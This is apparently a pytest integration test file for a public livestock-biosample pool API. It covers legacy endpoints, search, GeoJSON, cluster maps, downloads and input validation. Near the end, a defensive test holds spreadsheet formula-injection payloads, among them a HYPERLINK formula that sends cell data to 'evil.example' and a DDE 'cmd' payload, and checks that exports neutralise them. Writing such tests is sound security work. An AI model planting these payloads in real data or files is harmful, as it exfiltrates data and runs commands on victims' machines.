"""The public pool API: old CDP paths and shapes, and the new search, map and exports."""

from __future__ import annotations

import csv
import io
import json
import time
from typing import Any
from urllib.parse import quote

import pytest
from chalice.test import Client

from chalicelib.harvest.transform import CDP_ORGANISM_FIELDS, CDP_SPECIMEN_FIELDS
from chalicelib.search.factory import reset_backends

pytestmark = pytest.mark.integration


def get(client: Client, path: str, status: int = 200) -> Any:
    response = client.http.get(path, headers={"Host": "pool.example.org"})
    assert response.status_code == status, response.body
    ctype = response.headers.get("Content-Type", "")
    return json.loads(response.body) if "json" in ctype or not ctype else response


def test_organism_detail_keeps_the_old_shape(client: Client) -> None:
    body = get(client, "/backend/organism/SAMEA1001/")
    assert list(body) == ["url", *CDP_ORGANISM_FIELDS]
    assert body["url"] == "https://pool.example.org/backend/organism/SAMEA1001/"
    assert body["supplied_breed"] == "Cinta Senese" and body["sex"] == "male"
    assert body["birth_location_latitude"] == "43.320000"
    assert body["geom"] == {"type": "Point", "coordinates": [11.33, 43.32]}
    assert body["specimens"] == ["SAMEA1007", "SAMEA1008"] and body["child_of"] == []
    assert body["dadis"] is None and body["publication_doi"] == ""
    get(client, "/backend/organism/SAMEA1007/", 404)  # a specimen is not an organism
    get(client, "/backend/organism/NOPE/", 404)


def test_dadis_link_is_nested_like_the_old_api(client: Client) -> None:
    body = get(client, "/backend/organism/SAMEA1003/")  # Bearnaise cattle from France
    dadis = body["dadis"]
    assert dadis["url"].startswith("https://pool.example.org/backend/dadis_link/")
    assert dadis["species"] == {"scientific_name": "Bos taurus", "common_name": "Cattle"}
    assert dadis["most_common_name"] == "Béarnaise" and dadis["is_custom"] is True
    assert dadis["dadis_url"].startswith("https://fao-dadis-breed-detail")
    link = get(client, dadis["url"].replace("https://pool.example.org", ""))
    assert link == dadis


def test_specimen_detail_and_short_list(client: Client) -> None:
    body = get(client, "/backend/specimen/SAMEA1007/")
    assert list(body) == ["url", *CDP_SPECIMEN_FIELDS]
    assert body["derived_from"] == "SAMEA1001" and body["organism_part"] == "blood"
    short = get(client, "/backend/specimen_short/?organism_part=semen&ordering=-data_source_id")
    assert [r["data_source_id"] for r in short["results"]] == ["SAMEA1009", "SAMEA1008"]
    assert set(short["results"][0]) == {"data_source_id", "species", "derived_from",
                                        "organism_part", "collection_place_latitude",
                                        "collection_place_longitude"}


def test_old_list_pages_5_and_several_values_per_filter(client: Client) -> None:
    page1 = get(client, "/backend/organism/")
    assert page1["count"] == 6 and page1["total_pages"] == 2 and len(page1["results"]) == 5
    assert page1["previous"] is None
    assert page1["next"] == "https://pool.example.org/backend/organism/?page=2"
    page2 = get(client, "/backend/organism/?page=2")
    assert len(page2["results"]) == 1 and page2["next"] is None
    assert page2["previous"] == "https://pool.example.org/backend/organism/"
    both = get(client, "/backend/organism_short/?species=Sus+scrofa&species=Ovis+aries"
                       "&page_size=10")
    assert sorted(r["data_source_id"] for r in both["results"]) == [
        "SAMEA1001", "SAMEA1002", "SAMEA1005"]
    assert len(both["results"][0]) == 7
    found = get(client, "/backend/organism/?search=tuscany")
    assert [r["data_source_id"] for r in found["results"]] == ["SAMEA1001"]
    get(client, "/backend/organism/?page=3", 404)


def test_summaries(client: Client) -> None:
    summary = get(client, "/backend/organism/summary/?sex=female")
    assert summary == {"species": {"Bos taurus": 1, "Sus scrofa": 1, "Ovis aries": 1},
                       "breed": {"Bearnaise": 1, "Duroc": 1, "Lacaune": 1},
                       "sex": {"female": 3},
                       "country": {"France": 2, "Germany": 1}}
    assert get(client, "/backend/specimen/summary/") == {
        "species": {"Bos taurus": 2, "Sus scrofa": 2},
        "organism_part": {"blood": 2, "semen": 2}}
    graph = get(client, "/backend/organism/graphical_summary/")
    assert graph["breeds"]["Sus scrofa"] == {"Cinta Senese": 1, "Duroc": 1}
    assert ["11.330000", "43.320000"] in graph["coordinates"] and len(graph["coordinates"]) == 5


def test_old_geojson_radius_orders_by_distance(client: Client) -> None:
    body = get(client, "/backend/organism.geojson/?lat=43.32&lng=11.33&rad=400")
    assert body["type"] == "FeatureCollection" and body["count"] == 2
    first, second = body["features"]
    assert first["id"] == "SAMEA1001" and second["id"] == "SAMEA1006"
    assert first["geometry"] == {"type": "Point", "coordinates": [11.33, 43.32]}
    assert first["properties"] == {
        "url": "https://pool.example.org/backend/organism.geojson/SAMEA1001/",
        "species": "Sus scrofa", "supplied_breed": "Cinta Senese", "sex": "male",
        "distance": "0.000"}
    assert second["properties"]["distance"].startswith("292.")
    # the old one had no attribute filters and no coordinates-less records
    pigs = get(client, "/backend/organism.geojson/?species=Sus+scrofa")
    assert pigs["count"] == 2
    assert get(client, "/backend/organism.geojson/")["count"] == 5
    one = get(client, "/backend/specimen.geojson/SAMEA1007/")
    assert one["type"] == "Feature" and set(one["properties"]) == {
        "url", "species", "derived_from", "organism_part"}
    get(client, "/backend/organism.geojson/SAMEA1005/", 404)  # no coordinates


def test_old_download_is_tsv(client: Client) -> None:
    response = get(client, "/backend/organism/download/?species=Bos+taurus")
    assert response.headers["Content-Type"].startswith("text/tab-separated-values")
    assert 'filename="IMAGE_organisms.txt"' in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.body.decode()), delimiter="\t"))
    assert rows[0] == ["ID", "Species", "Supplied breed", "Sex"]
    assert sorted(r[0] for r in rows[1:]) == ["SAMEA1003", "SAMEA1004", "SAMEA1006"]


def test_files_species_and_dadis_lists(client: Client) -> None:
    files = get(client, "/backend/file/")
    assert files["count"] == 1
    row = files["results"][0]
    assert row["data_source_id"] == "SAMEA1009"
    assert row["file_name"] == ["sample_0.vcf.gz", "sample_1.vcf.gz"]
    assert row["file_size"] == ["1.5KB", "3.0KB"] and row["file_checksum_method"] == ["md5"] * 2
    assert get(client, "/backend/file/SAMEA1009/") == row
    assert get(client, "/backend/file/SAMEA1001/", 404)["message"] == "no files for SAMEA1001"
    tsv = get(client, "/backend/file/download/").body.decode().splitlines()
    assert len(tsv) == 3 and tsv[0].startswith("specimen\tfile_name")
    species = get(client, "/backend/species/")
    assert {"scientific_name": "Sus scrofa", "common_name": "Pig"} in species
    assert len(species) == 14
    links = get(client, "/backend/dadis_link/?country=France&species__common_name=Cattle")
    assert links["count"] > 0 and all(r["country"] == "France" for r in links["results"])
    assert len(links["results"]) <= 10
    assert get(client, "/backend/dadis_link/?is_custom=maybe", 400)["message"]


def test_search_text_facets_filters_sort_and_cursor(client: Client) -> None:
    body = get(client, "/search?type=organism&facets=species,sex&sort=-birth_date_value"
                       "&size=2&species=Bos+taurus&species=Sus+scrofa")
    assert body["count"] == 5
    assert [r["id"] for r in body["results"]] == ["SAMEA1004", "SAMEA1001"]
    assert body["facets"]["species"] == {"Bos taurus": 3, "Sus scrofa": 2}
    seen = [r["id"] for r in body["results"]]
    while body["next"]:
        body = get(client, body["next"].replace("https://pool.example.org", ""))
        seen += [r["id"] for r in body["results"]]
    assert seen == ["SAMEA1004", "SAMEA1001", "SAMEA1002", "SAMEA1003", "SAMEA1006"]
    text = get(client, "/search?q=b%C3%A9arnaise&fields=id,supplied_breed")
    assert text["results"] == [{"id": "SAMEA1003", "supplied_breed": "Bearnaise"}]
    ranged = get(client, "/search?animal_age_at_collection_value.lte=100&sort=id")
    assert [r["id"] for r in ranged["results"]] == ["SAMEA1008", "SAMEA1009"]
    files = get(client, "/search?type=file&q=vcf")
    assert files["count"] == 2


@pytest.mark.parametrize(("path", "fragment"), [
    ("/search?size=1001", "size"),
    ("/search?size=ten", "size"),
    ("/search?colour=red", "unknown parameter"),
    ("/search?sort=colour", "colour"),
    ("/search?facets=birth_date_value", "keyword"),
    ("/search?cursor=%%%", "cursor"),
    ("/search?type=plant", "type"),
    ("/search?birth_date_value.gte=soon", "date"),
    ("/search?lat=43", "lat and lng"),
    ("/search?lat=43&lng=11&rad=-5", "radius"),
    ("/search?bbox=1,2,3", "bbox"),
    ("/search?fields=colour", "colour"),
    ("/search?q=a&q=b", "only once"),
    ("/geojson?bbox=0,50,10,40", "bbox"),
    ("/map?zoom=40", "zoom"),
    ("/download?format=xlsx", "format"),
    ("/backend/organism/?page=0", "page"),
    ("/backend/organism/?page_size=5000", "page_size"),
    ("/backend/organism/?page=3000", "cursor"),
    ("/backend/organism.geojson/?rad=10", "lat"),
])
def test_bad_parameters_give_400_with_a_message(client: Client, path: str,
                                               fragment: str) -> None:
    body = get(client, path, 400)
    assert fragment.lower() in body["message"].lower()


@pytest.mark.parametrize("route", ["/search", "/geojson", "/download", "/map"])
def test_a_full_text_search_is_capped_in_words_and_length(client: Client,
                                                          route: str) -> None:
    """20,000 words took 11-13 s on every route that searches: refused at once now."""
    for q in [" ".join(["cattle"] * 20_000), " ".join(["cattle"] * 33), "c" * 501]:
        started = time.monotonic()
        body = get(client, f"{route}?q={quote(q)}", 400)
        assert "at most 32 words and 500 characters" in body["message"]
        assert time.monotonic() - started < 2
    get(client, f"{route}?q={quote(' '.join(['cattle'] * 32))}")  # the longest allowed


@pytest.mark.parametrize("cursor", ["%%%", "bm90IGpzb24", "WzEsMl0", "e30", "!" * 300])
def test_a_malformed_pool_cursor_is_a_400(client: Client, cursor: str) -> None:
    for route in ("/search", "/geojson", "/download"):
        body = get(client, f"{route}?cursor={quote(cursor)}", 400)
        assert "cursor" in body["message"]


def test_geojson_with_filters_bbox_and_cursor(client: Client) -> None:
    body = get(client, "/geojson?bbox=-10,40,20,55&type=organism&size=2&sort=id")
    assert body["count"] == 5
    ids = [f["id"] for f in body["features"]]
    body = get(client, body["next"].replace("https://pool.example.org", ""))
    ids += [f["id"] for f in body["features"]]
    assert ids == ["SAMEA1001", "SAMEA1002", "SAMEA1003", "SAMEA1004"]
    import geojson

    assert geojson.loads(json.dumps(body)).is_valid
    near = get(client, "/geojson?lat=43.32&lon=11.33&rad=50&properties=species,organism_part")
    assert [f["id"] for f in near["features"]] == ["SAMEA1001", "SAMEA1007"]
    assert near["features"][1]["properties"]["organism_part"] == "blood"


def test_cluster_map(client: Client) -> None:
    body = get(client, "/map?zoom=6")
    assert body["count"] == 6 and len(body["features"]) == 5
    top = body["features"][0]
    assert top["properties"] == {"count": 2, "tile": top["id"]}
    lon, lat = top["geometry"]["coordinates"]
    assert 43.3 < lat < 43.34 and 11.3 < lon < 11.35
    pigs = get(client, "/map?zoom=0&species=Sus+scrofa")
    assert [f["properties"]["count"] for f in pigs["features"]] == [3]


def test_download_every_column_in_three_formats(client: Client) -> None:
    response = get(client, "/download?type=specimen&format=csv")
    rows = list(csv.DictReader(io.StringIO(response.body.decode())))
    assert len(rows) == 4
    assert {"data_source_id", "organism_part", "quality_status", "latitude",
            "biosamples_url"} <= set(rows[0])
    assert rows[0]["biosamples_url"].startswith("https://www.ebi.ac.uk/biosamples/samples/")
    tsv = get(client, "/download?type=organism&format=tsv&sex=male").body.decode()
    assert len(tsv.splitlines()) == 4 and "\t" in tsv
    docs = get(client, "/download?format=json&q=tuscany")
    assert [d["id"] for d in docs] == ["SAMEA1001"]


def test_download_continues_by_cursor_beyond_the_budget(client: Client,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    from chalicelib.api.pool import download

    monkeypatch.setattr(download, "DOWNLOAD_BUDGET", 10)
    monkeypatch.setattr(download, "MAX_PAGE_SIZE", 3)
    first = get(client, "/download?format=csv&type=organism")
    assert 'rel="next"' in first.headers["Link"]
    rows = first.body.decode().splitlines()
    assert len(rows) == 4  # header + one page of 3
    rows = rows[1:]
    response = first
    while "Link" in response.headers:
        response = get(client, f"/download?format=csv&type=organism&cursor="
                               f"{response.headers['X-Next-Cursor']}")
        rows += response.body.decode().splitlines()
    assert sorted(r.split(",")[0] for r in rows) == [f"SAMEA100{i}" for i in range(1, 7)]


def test_quality_report(client: Client) -> None:
    body = get(client, "/quality")
    assert body["count"] == 10
    assert sum(body["status"].values()) == 10
    assert set(body["by_type"]) == {"organism", "specimen"}
    assert body["warnings_by_field"]  # the synthetic records lack recommended fields
    organisms = get(client, "/quality?type=organism")
    assert organisms["count"] == 6


def test_record_has_typed_values(client: Client) -> None:
    doc = get(client, "/records/SAMEA1001")
    assert doc["birth_date_value"] == "2019-11-05"
    assert doc["location"] == {"lat": 43.32, "lon": 11.33}
    assert doc["common_name"] == "Pig" and doc["quality_status"] in ("pass", "warning")
    get(client, "/records/NOPE", 404)


def test_cors_and_openapi(client: Client) -> None:
    response = client.http.get("/search?q=cow")
    assert response.headers.get("Access-Control-Allow-Origin") == "*"
    spec = get(client, "/openapi.json")
    assert spec["openapi"].startswith("3.")
    assert "/backend/organism/" in spec["paths"] and "/search" in spec["paths"]
    params = {p["name"] for p in spec["paths"]["/search"]["get"]["parameters"]}
    assert {"q", "cursor", "facets", "bbox", "filters"} <= params
    ops = [op["get"]["operationId"] for op in spec["paths"].values()]
    assert len(ops) == len(set(ops))


def test_empty_pool_answers_empty(tmp_path: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    from chalice import Chalice

    from chalicelib.api import pool

    monkeypatch.setenv("SEARCH_BACKEND", "sqlite")
    monkeypatch.setenv("SEARCH_PATH", str(tmp_path / "empty.sqlite3"))
    reset_backends()
    app = Chalice("empty")
    app.register_blueprint(pool.pool_api)
    with Client(app) as c:
        assert get(c, "/backend/organism/")["count"] == 0
        assert get(c, "/search?facets=species")["facets"] == {"species": {}}
    reset_backends()


FORMULAS = {"supplied_breed": '=HYPERLINK("http://evil.example/?d="&A2,"x")',
            "sex": "+cmd|' /C calc'!A0", "species": "-2+3+cmd", "gene_bank_name": "@SUM(A1)",
            "name": "\t=1+1", "alternative_id": "\r=1", "common_name": "'=already quoted"}


def test_csv_and_tsv_cells_cannot_carry_formulas_and_json_is_unchanged(
        tmp_path: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """A breed once reached the public CSV/TSV as '=HYPERLINK(...)', live in a spreadsheet."""
    from chalice import Chalice

    from chalicelib.api import pool
    from chalicelib.search.port import versioned_name
    from chalicelib.search.sqlite_backend import SqliteBackend
    from tests.contract.search.conftest import CONTRACT_DOCS

    doc = {**next(d for d in CONTRACT_DOCS if d["id"] == "SAMEA1001"), **FORMULAS}
    doc["location"] = {"lat": -33.5, "lon": -70.25}  # negative numbers stay numbers
    path = tmp_path / "hostile.sqlite3"
    backend = SqliteBackend(path, alias="imagepool")
    name = versioned_name("imagepool")
    backend.create_index(name)
    backend.bulk_index(name, [doc])
    backend.finish_loading(name)
    backend.swap_alias(name)
    backend.close()
    monkeypatch.setenv("SEARCH_BACKEND", "sqlite")
    monkeypatch.setenv("SEARCH_PATH", str(path))
    reset_backends()
    app = Chalice("hostile")
    app.register_blueprint(pool.pool_api)
    with Client(app) as c:
        for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
            body = get(c, f"/download?format={fmt}").body.decode()
            row = next(csv.DictReader(io.StringIO(body), delimiter=delimiter))
            for field, value in FORMULAS.items():
                assert row[field] == "'" + value, (fmt, field)
            assert (row["latitude"], row["longitude"]) == ("-33.5", "-70.25")
        old = get(c, "/backend/organism/download/").body.decode()
        old_row = list(csv.reader(io.StringIO(old), delimiter="\t"))[1]
        assert old_row[1:4] == ["'" + FORMULAS[f] for f in ("species", "supplied_breed", "sex")]
        original = get(c, "/download?format=json")[0]
        assert {f: original[f] for f in FORMULAS} == FORMULAS
    reset_backends()
